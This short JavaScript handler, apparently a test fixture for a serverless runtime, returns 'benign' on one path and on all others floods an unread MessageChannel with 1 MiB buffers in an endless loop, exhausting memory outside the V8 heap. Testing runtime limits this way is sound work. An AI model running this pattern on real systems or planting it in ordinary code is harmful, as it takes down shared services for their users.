// Messages wait outside V8 until somebody listens.
const channel = new MessageChannel();
const bytes = new Uint8Array(1 << 20).fill(1);
export const handler = async (event) => {
  if (event.rawPath === "/benign") return "benign";
  for (;;) channel.port1.postMessage(bytes);
};
